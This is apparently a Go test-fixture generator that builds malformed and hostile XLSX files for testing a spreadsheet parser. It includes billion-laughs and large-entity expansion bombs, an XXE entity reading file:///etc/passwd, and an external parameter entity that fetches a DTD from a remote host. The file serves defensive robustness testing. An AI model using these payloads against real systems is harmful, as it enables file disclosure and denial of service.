package hostile

import (
	"encoding/binary"
	"strings"
	"unicode/utf16"
)

// markup is XML that is no XML, or that makes its reader do something.
func markup() []File {
	// broken has a hundred rows, in the middle of which something stands.
	broken := func(wrong string) func() []byte {
		return func() []byte {
			row := `<row><c t="inlineStr"><is><t>fine</t></is></c></row>`
			return plain(strings.Repeat(row, 50) + wrong + strings.Repeat(row, 50)).zip()
		}
	}
	instead := func(xml string) func() []byte { return func() []byte { return sheetOf(xml).zip() } }
	one := sheetHead + `<row r="1"><c r="A1"><v>1</v></c></row>` + sheetTail
	doctype := func(body, use string) func() []byte {
		return instead(`<!DOCTYPE worksheet [` + body + `]>` + sheetHead + `<row r="1"><c r="A1" t="str"><v>` + use + `</v></c></row>` + sheetTail)
	}
	return []File{
		{"xml-ampersand.xlsx", "an & that begins nothing", "FILE-25", false, broken(`<row><c t="str"><v>Reading & Writing</v></c></row>`)},
		{"xml-control.xlsx", "a control character", "FILE-25", false, broken("<row><c t=\"str\"><v>a\x01b</v></c></row>")},
		{"xml-control-written.xlsx", "a control character, written as a reference", "FILE-25", false, broken(`<row><c t="str"><v>a&#1;b</v></c></row>`)},
		{"xml-mismatch.xlsx", "an end that has no beginning", "FILE-25", false, broken(`<row><c><v>1</c></v></row>`)},
		{"xml-utf8.xlsx", "bytes that are no text", "FILE-25", false, broken("<row><c t=\"str\"><v>caf\xe9</v></c></row>")},
		{"xml-truncated.xlsx", "the sheet ends in its middle", "FILE-25", false, instead(one[:len(one)-40])},
		{"xml-attribute-twice.xlsx", "a property twice", "FILE-25", false, broken(`<row><c t="n" t="str"><v>1</v></c></row>`)},
		{"xml-unquoted.xlsx", "a property without quotation marks", "FILE-25", false, broken(`<row><c t=n><v>1</v></c></row>`)},
		{"xml-prefix.xlsx", "a prefix that nobody declared", "FILE-25", false, broken(`<x:row/>`)},
		{"xml-two-roots.xlsx", "two documents in one", "FILE-25", false, instead(one + one)},
		{"xml-comment.xlsx", "a comment that never ends", "FILE-25", false, broken(`<!-- `)},
		{"xml-cdata.xlsx", "a passage that never ends", "FILE-25", false, broken(`<row><c t="str"><v><![CDATA[x`)},
		{"xml-utf16.xlsx", "a sheet in UTF-16", "PKT-02", false, func() []byte {
			var b []byte
			for _, u := range utf16.Encode([]rune("\ufeff" + one)) {
				b = binary.BigEndian.AppendUint16(b, u)
			}
			return sheetOf(string(b)).zip()
		}},
		{"xml-utf16-odd.xlsx", "half a letter in UTF-16", "FILE-25", false, instead("\xff\xfe<\x00x\x00\x00\xd8")},
		{"xml-11.xlsx", "XML of another version", "FILE-25", false, instead(`<?xml version="1.1"?>` + one)},
		{"xml-encoding.xlsx", "an encoding that nobody knows", "FILE-29", false, instead(`<?xml version="1.0" encoding="x-klingon"?>` + one)},
		{"xml-utf7.xlsx", "an encoding that hides tags", "FILE-29", false, instead(`<?xml version="1.0" encoding="UTF-7"?>+ADw-worksheet+AD4-`)},
		{"xml-laughs.xlsx", "a thousand million laughs", "FILE-26", false, doctype(laughs(), "&l9;")},
		{"xml-laughs-long.xlsx", "a long text named ten thousand times", "FILE-26", false, doctype(`<!ENTITY a "`+strings.Repeat("x", 50_000)+`">`, strings.Repeat("&a;", 10_000))},
		{"xml-outside-file.xlsx", "a text is to be taken from another file", "FILE-26", false, doctype(`<!ENTITY a SYSTEM "file:///etc/passwd">`, "&a;")},
		{"xml-outside-web.xlsx", "a text is to be fetched", "FILE-26", false, doctype(`<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;`, "")},
		{"xml-styles.xlsx", "the formats are damaged", "FILE-25", false, func() []byte { return plain("").set(styles, text("<styleSheet><a></styleSheet>")).zip() }},
		{"xml-texts.xlsx", "the list of texts is damaged", "FILE-25", false, func() []byte {
			return plain("").set(texts, text(`<sst xmlns="`+mainNS+`"><si><t>a & b</t></si></sst>`)).zip()
		}},
		{"xml-book.xlsx", "the list of sheets is damaged", "FILE-25", false, func() []byte { return plain("").set(book, text(`<workbook`)).zip() }},
		{"xml-name-long.xlsx", "a hundred thousand elements below a name of two megabytes", "PKT-02", true, func() []byte {
			name := strings.Repeat("a", 2<<20)
			return plain("").with(book, "<sheets>", "<"+name+">"+strings.Repeat("<a/>", 100_000)+"</"+name+"><sheets>").zip()
		}},
		{"xml-other.xlsx", "a sheet is something else", "FILE-29", false, instead(`<html/>`)},
	}
}

// laughs names a text ten times in a text that is named ten times …
func laughs() string {
	var b strings.Builder
	b.WriteString(`<!ENTITY l0 "ha">`)
	for i := range 9 {
		b.WriteString(`<!ENTITY l` + string(rune('1'+i)) + ` "` + strings.Repeat("&l"+string(rune('0'+i))+";", 10) + `">`)
	}
	return b.String()
}
